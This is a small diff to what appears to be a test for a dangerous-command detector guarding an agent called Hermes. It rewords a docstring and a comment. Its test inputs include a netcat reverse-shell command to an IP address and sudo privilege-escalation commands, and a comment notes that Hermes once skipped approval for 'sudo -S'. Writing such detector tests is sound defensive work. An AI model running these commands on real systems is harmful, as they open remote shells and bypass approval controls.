@@ -1,4 +1,4 @@
-"""The detector against Hermes's measured weaknesses (hermes-compat.md §8.1-8.2) and its output."""
+"""The detector against the destructive commands and hardline gaps Hermes misses, and its output."""
 
 from __future__ import annotations
 
@@ -70,7 +70,7 @@ def dangerous(command: str, **kw) -> bool:
         "nc -e /bin/sh 1.2.3.4 4444",
         "sudo su",
         "sudo -i",
-        # W-A7: sudo -S always needs approval
+        # sudo -S always needs approval (Hermes skipped it when SUDO_PASSWORD was set)
         "sudo -S apt-get update",
         "sudo --stdin true",
     ],
